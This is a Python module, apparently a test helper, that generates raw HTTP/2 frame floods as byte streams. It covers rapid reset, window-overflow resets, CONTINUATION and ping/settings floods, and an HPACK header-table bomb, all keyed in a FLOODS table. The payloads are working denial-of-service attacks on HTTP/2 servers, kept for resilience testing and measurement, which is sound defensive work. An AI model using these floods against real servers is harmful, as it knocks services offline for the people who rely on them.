"""Floods of HTTP/2, as pieces of bytes: for the tests, and for attacks that are measured."""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = range(5)
PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(6, 10)
PRIORITY_UPDATE, UNKNOWN = 16, 99
END_STREAM, END_HEADERS = 1, 4
GET = b"\x82\x04\x06/hello\x86\x41\x01a"
POST = b"\x83\x04\x07/upload\x86\x41\x01a"


MANY = 64
"""Frames in a piece of a flood of one frame."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return the bytes of a frame."""
    return len(payload).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + payload


def get(stream: int) -> bytes:
    """Return the bytes of a request on that stream."""
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, GET)


def rapid_reset() -> Iterator[bytes]:
    """Requests that are given up at once."""
    for stream in range(1, 1 << 20, 2):
        yield get(stream) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")


def made_to_reset() -> Iterator[bytes]:
    """Requests that the server has to give up, as their windows overflow."""
    for stream in range(1, 1 << 20, 2):
        yield get(stream) + frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff")


def malformed() -> Iterator[bytes]:
    """Requests that the server has to give up, as they have no path."""
    for stream in range(1, 1 << 20, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\x82\x86\x41\x01a")


def repeated(
    kind: int, flags: int, stream: int, payload: bytes, first: bytes = b""
) -> Callable[[], Iterator[bytes]]:
    """Return a flood of one frame, behind others: many at once, so that whoever sends them costs less than they do."""

    def flood() -> Iterator[bytes]:
        yield first
        while True:
            yield MANY * frame(kind, flags, stream, payload)

    return flood


def bomb() -> Iterator[bytes]:
    """A large field of the dynamic table, ten thousand times in one head."""
    large = b"\x40\x01x\x7f\xc1\x16" + b"x" * 3008
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + large + b"\xbe" * 10_000)
    while True:
        yield frame(PING, 0, 0, bytes(8))


BEGUN = frame(HEADERS, END_HEADERS, 1, POST)
FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    "rapid-reset": rapid_reset,
    "made-to-reset": made_to_reset,
    "malformed": malformed,
    "ping": repeated(PING, 0, 0, bytes(8)),
    "settings": repeated(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64"),
    "empty-data": repeated(DATA, 0, 1, b"", BEGUN),
    "small-data": repeated(DATA, 0, 1, b"x", BEGUN),
    "priority": repeated(PRIORITY, 0, 3, b"\0\0\0\0\x10"),
    "priority-update": repeated(PRIORITY_UPDATE, 0, 0, b"\0\0\0\x01u=1"),
    "window-update": repeated(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01"),
    "unknown": repeated(UNKNOWN, 0, 0, b"grease"),
    "continuation": repeated(CONTINUATION, 0, 1, b"\x40\x01x\x01y", frame(HEADERS, 0, 1, GET)),
    "empty-continuation": repeated(CONTINUATION, 0, 1, b"", frame(HEADERS, 0, 1, GET)),
    "bomb": bomb,
}
